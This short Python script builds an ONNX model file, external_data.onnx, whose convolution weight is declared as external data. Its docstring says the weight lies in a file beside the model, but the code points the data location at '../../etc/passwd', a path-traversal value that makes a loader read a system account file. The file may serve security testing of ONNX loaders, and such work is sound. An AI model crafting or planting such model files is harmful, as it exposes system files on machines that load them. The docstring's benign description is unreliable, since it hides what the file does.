"""Makes external_data.onnx: a network whose weight lies in a file beside it. Needs the package onnx."""
import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

w = numpy_helper.from_array(np.ones((2, 1, 1, 1), np.float32), "w")
w.ClearField("raw_data")
w.data_location = TensorProto.EXTERNAL
w.external_data.add(key="location", value="../../etc/passwd")
x = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 1, "H", "W"])
y = helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 2, "H", "W"])
g = helper.make_graph([helper.make_node("Conv", ["x", "w"], ["y"], name="c")], "g", [x], [y], [w])
m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 18)], ir_version=9)
with open("external_data.onnx", "wb") as f:
    f.write(m.SerializeToString())
